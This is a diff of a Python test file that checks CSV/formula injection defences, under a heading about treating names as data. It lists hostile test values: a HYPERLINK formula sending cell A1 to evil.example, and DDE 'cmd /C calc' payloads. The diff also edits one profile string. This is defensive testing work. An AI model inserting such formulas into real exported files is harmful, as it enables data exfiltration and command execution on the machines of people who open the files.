@@ -534,7 +534,9 @@ def test_the_desk_takes_no_unicode_digit_for_a_round(day):
 # -- issue 35: names are data, not formulas (OWASP CSV injection) ----------------------
 HOSTILE_NAMES = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+cmd|' /C calc'!A0",
                  "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0"]
-HOSTILE_PROFILE = "\t=cmd|' /C calc'!A0"
+# (a formula without a control character: the protocol refuses a result whose
+# free text holds a tab or a CR, firmware/hallproto.py is_text, issue 35)
+HOSTILE_PROFILE = "=cmd|' /C calc'!A0"
 
 
 @pytest.fixture
